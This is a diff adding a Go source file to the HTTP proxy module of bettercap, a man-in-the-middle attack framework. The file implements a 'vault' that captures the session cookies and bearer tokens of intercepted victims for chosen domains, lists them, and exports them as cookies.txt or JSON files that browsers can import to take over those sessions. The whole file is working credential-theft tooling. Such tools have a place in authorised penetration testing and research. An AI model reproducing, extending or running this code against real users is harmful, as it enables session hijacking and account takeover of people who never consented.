@@ -0,0 +1,335 @@
+package http_proxy
+
+import (
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/evilsocket/islazy/fs"
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	vaultCookie = "cookie"
+	vaultBearer = "bearer"
+)
+
+// VaultEntry is a cookie or a bearer token observed for a target domain.
+type VaultEntry struct {
+	Client   string    `json:"client"`
+	Kind     string    `json:"kind"`
+	Domain   string    `json:"domain"`
+	HostOnly bool      `json:"host_only"`
+	Path     string    `json:"path"`
+	Name     string    `json:"name"`
+	Value    string    `json:"value"`
+	Secure   bool      `json:"secure"`
+	HttpOnly bool      `json:"http_only"`
+	Expires  time.Time `json:"expires"`
+	Seen     time.Time `json:"seen"`
+}
+
+func (e *VaultEntry) key() string {
+	return strings.Join([]string{e.Kind, e.Domain, e.Path, e.Name}, "|")
+}
+
+// TokenVault keeps the session cookies and tokens of each victim.
+type TokenVault struct {
+	sync.RWMutex
+	clients map[string]map[string]*VaultEntry
+}
+
+func NewTokenVault() *TokenVault {
+	return &TokenVault{
+		clients: make(map[string]map[string]*VaultEntry),
+	}
+}
+
+func (v *TokenVault) MarshalJSON() ([]byte, error) {
+	v.RLock()
+	defer v.RUnlock()
+	return json.Marshal(v.clients)
+}
+
+// Store adds or updates the entry and returns true if it is new or its value changed.
+func (v *TokenVault) Store(e *VaultEntry) bool {
+	v.Lock()
+	defer v.Unlock()
+
+	entries, found := v.clients[e.Client]
+	if !found {
+		entries = make(map[string]*VaultEntry)
+		v.clients[e.Client] = entries
+	}
+
+	key := e.key()
+	prev, found := entries[key]
+	entries[key] = e
+	return !found || prev.Value != e.Value
+}
+
+func (v *TokenVault) Delete(client string, e *VaultEntry) {
+	v.Lock()
+	defer v.Unlock()
+
+	if entries, found := v.clients[client]; found {
+		delete(entries, e.key())
+	}
+}
+
+func (v *TokenVault) Clear() {
+	v.Lock()
+	defer v.Unlock()
+	v.clients = make(map[string]map[string]*VaultEntry)
+}
+
+// Of returns the entries of the client sorted by domain and name.
+func (v *TokenVault) Of(client string) []*VaultEntry {
+	v.RLock()
+	defer v.RUnlock()
+
+	list := make([]*VaultEntry, 0)
+	for _, e := range v.clients[client] {
+		list = append(list, e)
+	}
+	sort.Slice(list, func(i, j int) bool {
+		return list[i].key() < list[j].key()
+	})
+	return list
+}
+
+func (v *TokenVault) Clients() []string {
+	v.RLock()
+	defer v.RUnlock()
+
+	clients := make([]string, 0, len(v.clients))
+	for client := range v.clients {
+		clients = append(clients, client)
+	}
+	sort.Strings(clients)
+	return clients
+}
+
+func (p *HTTPProxy) inVault(host string) bool {
+	return len(p.VaultDomains) > 0 && p.matchesAny(p.VaultDomains, host)
+}
+
+func (p *HTTPProxy) onVaultEntry(e *VaultEntry) {
+	if p.Vault.Store(e) {
+		p.Info("[%s] new %s %s for %s", tui.Bold(e.Client), e.Kind, tui.Yellow(e.Name), e.Domain)
+		p.Sess.Events.Add(p.Name+".vault", *e)
+	}
+}
+
+// collect the cookies and bearer tokens sent by the victim
+func (p *HTTPProxy) vaultRequest(req *http.Request) {
+	host := stripPort(req.Host)
+	if !p.inVault(host) {
+		return
+	}
+
+	client := stripPort(req.RemoteAddr)
+	now := time.Now()
+
+	for _, c := range req.Cookies() {
+		p.onVaultEntry(&VaultEntry{
+			Client:   client,
+			Kind:     vaultCookie,
+			Domain:   host,
+			HostOnly: true,
+			Path:     "/",
+			Name:     c.Name,
+			Value:    c.Value,
+			Seen:     now,
+		})
+	}
+
+	if auth := req.Header.Get("Authorization"); len(auth) > 7 && strings.ToLower(auth[:7]) == "bearer " {
+		p.onVaultEntry(&VaultEntry{
+			Client: client,
+			Kind:   vaultBearer,
+			Domain: host,
+			Path:   "/",
+			Name:   "Authorization",
+			Value:  strings.TrimSpace(auth[7:]),
+			Seen:   now,
+		})
+	}
+}
+
+// collect the cookies set by the server for the victim
+func (p *HTTPProxy) vaultResponse(res *http.Response) {
+	host := stripPort(res.Request.Host)
+	if !p.inVault(host) {
+		return
+	}
+
+	client := stripPort(res.Request.RemoteAddr)
+	now := time.Now()
+
+	for _, c := range res.Cookies() {
+		e := &VaultEntry{
+			Client:   client,
+			Kind:     vaultCookie,
+			Domain:   strings.TrimPrefix(c.Domain, "."),
+			Path:     c.Path,
+			Name:     c.Name,
+			Value:    c.Value,
+			Secure:   c.Secure,
+			HttpOnly: c.HttpOnly,
+			Seen:     now,
+		}
+		if e.Domain == "" {
+			e.Domain, e.HostOnly = host, true
+		}
+		if e.Path == "" {
+			e.Path = "/"
+		}
+		if c.MaxAge > 0 {
+			e.Expires = now.Add(time.Duration(c.MaxAge) * time.Second)
+		} else if !c.Expires.IsZero() {
+			e.Expires = c.Expires
+		}
+
+		// the server is deleting the cookie
+		if c.MaxAge < 0 || (!e.Expires.IsZero() && e.Expires.Before(now)) {
+			p.Vault.Delete(client, e)
+		} else {
+			p.onVaultEntry(e)
+		}
+	}
+}
+
+func (p *HTTPProxy) showVault() error {
+	rows := [][]string{}
+	for _, client := range p.Vault.Clients() {
+		for _, e := range p.Vault.Of(client) {
+			value := e.Value
+			if len(value) > 32 {
+				value = value[:32] + "…"
+			}
+			expires := tui.Dim("session")
+			if !e.Expires.IsZero() {
+				expires = e.Expires.Format("2006-01-02 15:04:05")
+			}
+			rows = append(rows, []string{
+				tui.Bold(client),
+				e.Kind,
+				e.Domain,
+				tui.Yellow(e.Name),
+				value,
+				expires,
+				e.Seen.Format("15:04:05"),
+			})
+		}
+	}
+
+	if len(rows) == 0 {
+		p.Info("the vault is empty")
+		return nil
+	}
+
+	tui.Table(p.Sess.Events.Stdout, []string{"Client", "Kind", "Domain", "Name", "Value", "Expires", "Seen"}, rows)
+	p.Sess.Refresh()
+
+	return nil
+}
+
+func boolField(b bool) string {
+	if b {
+		return "TRUE"
+	}
+	return "FALSE"
+}
+
+// export the cookies of the client in the Netscape cookies.txt format, or as
+// a JSON array if the file name ends with .json, both can be imported by browsers
+// extensions. Bearer tokens are only exported as JSON.
+func (p *HTTPProxy) exportVault(client string, fileName string) error {
+	entries := p.Vault.Of(client)
+	if len(entries) == 0 {
+		return fmt.Errorf("no cookies or tokens for %s", client)
+	}
+
+	fileName, err := fs.Expand(fileName)
+	if err != nil {
+		return err
+	}
+
+	var data []byte
+	if strings.HasSuffix(strings.ToLower(fileName), ".json") {
+		if data, err = json.MarshalIndent(entries, "", "  "); err != nil {
+			return err
+		}
+	} else {
+		lines := []string{"# Netscape HTTP Cookie File", fmt.Sprintf("# exported from %s for %s", p.Name, client), ""}
+		for _, e := range entries {
+			if e.Kind != vaultCookie {
+				continue
+			}
+
+			domain := e.Domain
+			if e.HttpOnly {
+				domain = "#HttpOnly_" + domain
+			}
+			expires := int64(0)
+			if !e.Expires.IsZero() {
+				expires = e.Expires.Unix()
+			}
+
+			lines = append(lines, strings.Join([]string{
+				domain,
+				boolField(!e.HostOnly),
+				e.Path,
+				boolField(e.Secure),
+				fmt.Sprintf("%d", expires),
+				e.Name,
+				e.Value,
+			}, "\t"))
+		}
+		data = []byte(strings.Join(lines, "\n") + "\n")
+	}
+
+	if err = ioutil.WriteFile(fileName, data, 0600); err != nil {
+		return err
+	}
+
+	p.Info("exported %d entries of %s to %s", len(entries), tui.Bold(client), fileName)
+	return nil
+}
+
+// AddVaultHandlers registers the parameter and the commands of the cookies
+// and tokens vault into the module with the given name.
+func AddVaultHandlers(mod *session.SessionModule, name string, p *HTTPProxy) {
+	mod.State.Store("vault", p.Vault)
+
+	mod.AddParam(session.NewStringParameter(name+".vault.domains", "", "",
+		"Comma separated list of domains to collect cookies and bearer tokens for into the vault (wildcard expressions can be used), empty to disable it."))
+
+	mod.AddHandler(session.NewModuleHandler(name+".vault", "",
+		"Show the cookies and bearer tokens collected for each client.",
+		func(args []string) error {
+			return p.showVault()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler(name+".vault.export CLIENT FILENAME",
+		strings.Replace(name, ".", `\.`, -1)+`\.vault\.export\s+([^\s]+)\s+(.+)`,
+		"Export the cookies of CLIENT to FILENAME in the cookies.txt format, or as JSON (tokens included) if FILENAME ends with .json.",
+		func(args []string) error {
+			return p.exportVault(args[0], args[1])
+		}))
+
+	mod.AddHandler(session.NewModuleHandler(name+".vault.clear", "",
+		"Clear the vault.",
+		func(args []string) error {
+			p.Vault.Clear()
+			return nil
+		}))
+}